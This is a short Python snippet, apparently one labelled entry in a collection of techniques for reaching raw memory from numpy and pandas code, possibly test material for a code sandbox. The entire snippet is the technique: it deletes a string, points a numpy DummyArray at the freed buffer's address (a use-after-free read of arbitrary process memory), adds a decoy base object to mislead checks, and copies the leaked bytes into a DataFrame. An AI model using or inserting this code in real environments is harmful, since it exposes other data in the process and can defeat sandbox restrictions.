# class: numpy_memory
# technique: DummyArray(interface, base=obj): the interface points into a freed-then-reused str buffer (use after free), base= only keeps a decoy alive
# goal: memory
import numpy as np
import pandas as pd
from numpy.lib.stride_tricks import DummyArray

ghost = "x" * 4096
address = id(ghost) + 48
del ghost
reused = np.asarray(DummyArray({"data": (address, False), "shape": (4096,), "typestr": "|u1", "version": 3},
                               base=np.zeros(1))).copy()
df = pd.DataFrame({"byte": reused})
